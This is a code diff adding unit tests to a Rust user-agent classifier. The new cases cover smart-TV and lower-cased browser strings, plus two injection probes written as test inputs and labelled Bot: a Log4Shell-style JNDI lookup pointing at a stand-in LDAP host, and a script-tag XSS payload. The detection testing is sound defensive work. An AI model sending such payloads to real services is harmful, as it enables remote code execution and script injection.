@@ -128,6 +128,12 @@ mod tests {
         check("NewsApp/5.2.1 CFNetwork/1410.0.3 Darwin/22.6.0", AppHttpStack, Desktop);
         // Something no list names and no browser sends: valid, but not a browser.
         check("MyCompanyKiosk (build 77; screen 1080x1920)", Other, Desktop);
+        // Injection probes are no client at all.
+        check("${jndi:ldap://x.example/a}", Bot, Desktop);
+        check("Mozilla/5.0 <script>alert(1)</script>", Bot, Desktop);
+        // Connected TVs and lower-cased agents.
+        check("Mozilla/5.0 (Linux armv7l) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/84.0.4147.140 Safari/537.36 OPR/46.0.2207.0 OMI/4.21.4.112.Catcher4.66 HbbTV/1.5.1 (+DRM;Hisense;MT9602;)", Browser, Desktop);
+        check("mozilla/5.0 (linux; android 9; bq-1022l) applewebkit/537.36 (khtml, like gecko) chrome/81.0.4044.117 safari/537.36", Browser, Tablet);
     }
 
     #[test]
